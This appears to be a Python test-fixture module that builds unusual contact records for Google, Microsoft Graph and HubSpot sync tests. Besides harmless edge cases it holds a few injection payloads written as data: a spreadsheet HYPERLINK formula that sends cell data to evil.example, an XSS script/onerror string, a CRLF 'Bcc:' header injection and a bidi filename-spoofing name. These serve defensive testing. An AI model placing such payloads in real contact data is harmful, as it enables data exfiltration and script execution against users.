"""Unusual contacts as real accounts have them, each kind by its name.

A kind lays members over what a provider would have written of an ordinary person.
"""

from collections.abc import Callable

from local.sandbox.wire import Json

X500 = "/o=ExchangeLabs/ou=Exchange Administrative Group (FYDIBOHF23SPDLT)/cn=Recipients/cn=0a1b2c3d4e5f-Ada"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Ada")'
MARKUP = '<script>alert(1)</script><img src=x onerror="alert(2)">&amp;'
BIDI = "Ada\u202egnp.\u2066exe\u2069\u200f\u061c"
LONG = "Ada " + "x" * 2996
CONTROLS = "Ada\x00\x07\r\nBcc: evil@mail.example\x1b[31m\u2028"
LONE_SURROGATE = "Ada\ud83d Hopper"
HUGE = "n" * 100_000  # more than one contact may weigh

_NAMES = {
    "long-name": LONG,
    "bidi": BIDI,
    "formula": FORMULA,
    "markup": MARKUP,
    "controls": CONTROLS,
    "surrogate": LONE_SURROGATE,
    "mononym": "Ada",
    "emoji": "👩‍👩‍👧‍👦 Ada\ufe0f\u200d",
}
KINDS = (*_NAMES, "x500", "null-address", "smtp", "not-an-address", "empty", "huge-note", "profile", "year-1604")
KINDS += ("odd-birthday", "html-note", "twice", "only-phone", "only-company", "blanks")


def google_oddity(kind: str, person: Json, source: Json) -> dict[str, Json]:
    """The unusual fields of a Person of this kind; {} for "" and for kinds that only Microsoft has."""
    if not kind:
        return {}
    primary = {"metadata": {"primary": True, "source": source}}
    if kind in _NAMES:
        return {"names": [{**primary, "displayName": _NAMES[kind], "givenName": _NAMES[kind]}]}
    make = _GOOGLE.get(kind)
    return make(person, primary) if make else {}


def microsoft_oddity(kind: str) -> dict[str, Json]:
    """The unusual fields of a Graph contact of this kind."""
    if kind in _NAMES:
        return {"displayName": _NAMES[kind], "givenName": _NAMES[kind], "surname": None, "fileAs": _NAMES[kind]}
    return _MICROSOFT.get(kind, {})


def hubspot_oddity(kind: str) -> dict[str, str | None]:
    """The unusual properties of a HubSpot contact of this kind."""
    if kind in _NAMES:
        return {"firstname": _NAMES[kind], "lastname": None}
    return _HUBSPOT.get(kind, {})


def _nothing(person: Json) -> dict[str, Json]:
    """Only ids and metadata are left."""
    return {name: [] for name, value in person.items() if isinstance(value, list)}


def _emails(*values: str | None) -> Callable[[Json, Json], dict[str, Json]]:
    def make(_person: Json, primary: Json) -> dict[str, Json]:
        return {"emailAddresses": [primary if value is None else {**primary, "value": value} for value in values]}

    return make


def _birthday(*dates: Json) -> Callable[[Json, Json], dict[str, Json]]:
    def make(_person: Json, primary: Json) -> dict[str, Json]:
        return {"birthdays": [{**primary, **date} for date in dates]}

    return make


def _of_a_profile(person: Json, primary: Json) -> dict[str, Json]:
    """The contact is linked to a public profile, whose name comes first."""
    profile = {"type": "PROFILE", "id": "1" + person["resourceName"][-19:].rjust(20, "0")}
    theirs = {
        "metadata": {"primary": True, "source": profile},
        "displayName": "xX_Profile_Xx",
        "givenName": "xX_Profile_Xx",
    }
    mine = [
        {**name, "metadata": {"sourcePrimary": True, "source": primary["metadata"]["source"]}}
        for name in person.get("names", [])
    ]
    linked = {**profile, "etag": "#profile", "profileMetadata": {"objectType": "PERSON", "userTypes": ["GOOGLE_USER"]}}
    sources = [*person["metadata"]["sources"], linked]
    return {"names": [theirs, *mine], "metadata": {**person["metadata"], "sources": sources}}


_GOOGLE: dict[str, Callable[[Json, Json], dict[str, Json]]] = {
    "x500": _emails(X500),
    "null-address": _emails(None),
    "smtp": _emails("SMTP:ada.smtp@mail.example"),
    "not-an-address": _emails("ask Bert", "a@b@c.example", "@"),
    "twice": _emails("Twice@Mail.example", "twice@mail.EXAMPLE", " twice@mail.example "),
    "empty": lambda person, _: _nothing(person),
    "huge-note": lambda _, primary: {"biographies": [{**primary, "value": HUGE, "contentType": "TEXT_PLAIN"}]},
    "html-note": lambda _, primary: {"biographies": [{**primary, "value": MARKUP, "contentType": "TEXT_HTML"}]},
    "profile": _of_a_profile,
    "year-1604": _birthday({"date": {"year": 1604, "month": 2, "day": 29}}),
    "odd-birthday": _birthday(
        {"date": {"year": 1999, "month": 0, "day": 0}}, {"text": "sometime in May"}, {"date": {}}
    ),
    "only-phone": lambda person, primary: {
        **_nothing(person),
        "phoneNumbers": [{**primary, "value": "+49 1512 0000017"}],
    },
    "only-company": lambda person, primary: {**_nothing(person), "organizations": [{**primary, "name": "Bakery Ltd"}]},
    "blanks": lambda _, primary: {
        "names": [{**primary, "displayName": "  ", "givenName": "\u00a0"}],
        "emailAddresses": [{**primary, "value": ""}],
    },
}
_ALL_NULL: dict[str, Json] = {
    "displayName": "",
    "givenName": None,
    "surname": None,
    "fileAs": "",
    "emailAddresses": [],
    "businessPhones": [],
    "homePhones": [],
    "mobilePhone": None,
    "companyName": None,
    "department": None,
    "jobTitle": None,
    "birthday": None,
    "personalNotes": "",
    "businessHomePage": None,
    "homeAddress": {},
    "businessAddress": {},
    "otherAddress": {},
    "middleName": None,
    "nickName": None,
    "categories": [],
}
_MICROSOFT: dict[str, dict[str, Json]] = {
    "x500": {"emailAddresses": [{"name": "Ada", "address": X500}]},
    "null-address": {"emailAddresses": [{"name": "Ada", "address": None}, {"name": "Ada"}]},
    "smtp": {"emailAddresses": [{"name": "smtp:ada.smtp@mail.example", "address": "smtp:ada.smtp@mail.example"}]},
    "not-an-address": {"emailAddresses": [{"name": "Bert", "address": "ask Bert"}, {"name": "", "address": "@"}]},
    "twice": {
        "emailAddresses": [
            {"name": "T", "address": "Twice@Mail.example"},
            {"name": "T", "address": "twice@mail.EXAMPLE"},
        ]
    },
    "empty": _ALL_NULL,
    "huge-note": {"personalNotes": HUGE},
    "html-note": {"personalNotes": MARKUP},
    "year-1604": {"birthday": "1604-02-29T00:00:00Z"},
    "odd-birthday": {"birthday": "1987-06-30T23:59:00Z"},
    "only-phone": {**_ALL_NULL, "mobilePhone": "+49 1512 0000017"},
    "only-company": {**_ALL_NULL, "companyName": "Bakery Ltd"},
    "blanks": {
        "displayName": "  ",
        "givenName": "",
        "surname": "\u00a0",
        "mobilePhone": "",
        "businessPhones": [""],
        "emailAddresses": [{"name": "", "address": ""}],
    },
}
_NO_PROPERTIES: dict[str, str | None] = dict.fromkeys(
    (
        *("salutation", "firstname", "lastname", "company", "jobtitle", "website", "date_of_birth", "message"),
        *("email", "hs_additional_emails", "work_email", "phone", "mobilephone", "fax", "address", "city", "state"),
        *("zip", "country", "hs_country_region_code", "twitterhandle", "hs_lead_status", "shoe_size"),
    )
)
_HUBSPOT: dict[str, dict[str, str | None]] = {
    "x500": {"email": X500},
    "null-address": {"email": None},
    "smtp": {"email": "SMTP:ada.smtp@mail.example"},
    "not-an-address": {"email": "ask Bert", "hs_additional_emails": "a@b@c.example;@"},
    "twice": {"email": "Twice@Mail.example", "hs_additional_emails": "twice@mail.EXAMPLE; twice@mail.example "},
    "empty": _NO_PROPERTIES,
    "huge-note": {"message": HUGE},
    "html-note": {"message": MARKUP},
    "year-1604": {"date_of_birth": "1604-02-29"},
    "odd-birthday": {"date_of_birth": "sometime in May"},
    "only-phone": {**_NO_PROPERTIES, "mobilephone": "+49 1512 0000017"},
    "only-company": {**_NO_PROPERTIES, "company": "Bakery Ltd"},
    "blanks": {"firstname": "  ", "lastname": "\u00a0", "email": "", "phone": "", "hs_additional_emails": ";"},
}
